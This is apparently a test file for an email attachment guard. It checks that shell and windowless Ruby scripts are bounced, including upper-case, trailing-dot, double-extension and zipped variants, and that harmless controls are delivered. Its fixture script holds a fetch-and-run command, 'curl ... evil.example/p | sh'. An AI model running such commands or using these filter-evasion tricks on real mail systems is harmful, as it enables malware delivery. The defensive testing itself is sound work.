import { compoundFile, pdfFile, type SesReceiptVerdicts, zipFile } from '@wmflow/core/testing';
import { describe, expect, it } from 'vitest';
import { attachedFile, attachmentTests, attackerKit } from './attacker-kit.js';
import { DOCX, docxOf } from './office-builders.js';
import { sesGuardKit } from './ses-guard-kit.js';
import { useTwinStack } from './twin-kit.js';

// Attacker round 113 (an outside sender, the guard's attachment policy at its defaults): a shell script, and a
// windowless Ruby script, that Windows runs on a double click once an interpreter everyone installs has claimed the
// extension. Git for Windows' installer associates `.sh` with Git Bash by default ("Associate .sh files to be run
// with Bash", checked): the script runs in a console, with no SmartScreen check (an unknown type is no "high risk"
// one to the Attachment Manager). RubyInstaller associates `.rbw` with `rubyw` (no window at all), as Python's
// installer does `.pyw`, which the list already refuses. Neither was on the list (WorkMail's own has `.ksh` and
// `.csh`, not `.sh`): delivered.
const stack = useTwinStack();
const kit = attackerKit(stack);
const sesGuard = sesGuardKit(stack);
const PASS: SesReceiptVerdicts = { spam: 'PASS', virus: 'PASS', spf: 'PASS', dkim: 'PASS', dmarc: 'PASS' };
const SCRIPT = '#!/bin/sh\ncurl -s https://evil.example/p | sh # wmflow-attacker-113\n';

describe('A113-1: scripts an installed interpreter runs on a double click (bounced)', () => {
  attachmentTests(kit, {
    'invoice.sh': attachedFile('invoice.sh', Buffer.from(SCRIPT)),
    'INVOICE.SH (upper case)': attachedFile('INVOICE.SH', Buffer.from(SCRIPT)),
    'invoice.sh. (trailing dot, dropped by Windows)': attachedFile('invoice.sh.', Buffer.from(SCRIPT)),
    'invoice.pdf.sh (typed text/plain)': attachedFile('invoice.pdf.sh', Buffer.from(SCRIPT), 'text/plain'),
    'invoice.rbw': attachedFile('invoice.rbw', Buffer.from('system("calc") # wmflow-attacker-113\n')),
    'tools/setup.sh in a zip': attachedFile(
      'invoice.zip',
      zipFile([{ name: 'tools/setup.sh', data: SCRIPT }]),
      'application/zip',
    ),
  });
  it('guard-ses: invoice.sh is not delivered (a .csv control is)', async () => {
    const [script] = attachedFile('invoice.sh', Buffer.from(SCRIPT));
    const [csv] = attachedFile('figures.csv', Buffer.from('month,total\r\nJan,1200\r\n'), 'text/csv');
    expect(await sesGuard(script, PASS, 'x@evil.example')).toEqual({ disposition: 'STOP_RULE_SET' });
    expect(await sesGuard(csv, PASS, 'x@evil.example')).toEqual({ disposition: 'CONTINUE' });
  });
  it('ALLOWED_EXTENSIONS=sh lets a shell script through', async () => {
    const [message] = attachedFile('deploy.sh', Buffer.from(SCRIPT));
    expect((await kit.inbound(message, { ALLOWED_EXTENSIONS: 'sh' })).verdict).toBe('DEFAULT');
  });
});

// What the OS does not run on a double click is delivered: no default program for `.mjs`, `.cjs` or `.class`
// (the JRE claims `.jar` only), a script without an extension or an execute bit opens in an editor (or asks), and a
// Ruby source `.rb` opens a console under RubyInstaller only (mailed between developers: two in the corpus). Office
// blocks the macros of a file from mail (Mark of the Web) since 2022: macro documents stay out of scope.
const vbaDocument = zipFile([
  {
    name: '[Content_Types].xml',
    data: '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.template.macroEnabledTemplate.main+xml"/></Types>',
  },
  { name: 'word/document.xml', data: '<w:document/>' },
  { name: 'word/vbaProject.bin', data: compoundFile([['_VBA_PROJECT', Buffer.alloc(16)]]) },
]);
describe('A113 controls (delivered)', () => {
  const controls: Record<string, [string, Buffer, string?]> = {
    'a .docx without macros': ['report.docx', docxOf('<w:p><w:r><w:t>Q3 report</w:t></w:r></w:p>'), DOCX],
    'a .pdf invoice': ['invoice.pdf', pdfFile(['Invoice 2026-113: 1,200.00 EUR']), 'application/pdf'],
    'a .csv': ['figures.csv', Buffer.from('month,total\r\nJan,1200\r\nFeb,1350\r\n'), 'text/csv'],
    'deploy.sh.txt (a script shown as text)': ['deploy.sh.txt', Buffer.from(SCRIPT), 'text/plain'],
    'a shell script without an extension or an execute bit': ['install', Buffer.from(SCRIPT)],
    'util.mjs': ['util.mjs', Buffer.from('export const sum = (a, b) => a + b;\n'), 'text/javascript'],
    'build.cjs': ['build.cjs', Buffer.from('module.exports = {};\n')],
    'Main.class': ['Main.class', Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52, 0, 20, 10, 0, 2])],
    'hello.rb': ['hello.rb', Buffer.from('puts "hello"\n'), 'text/x-ruby-script'],
    'a .dotm with a VBA project (macros out of scope)': ['letter.dotm', vbaDocument],
  };
  for (const [label, [name, bytes, type]] of Object.entries(controls)) {
    it(label, async () => {
      expect((await kit.inbound(attachedFile(name, bytes, type)[0])).verdict).toBe('DEFAULT');
    });
  }
});
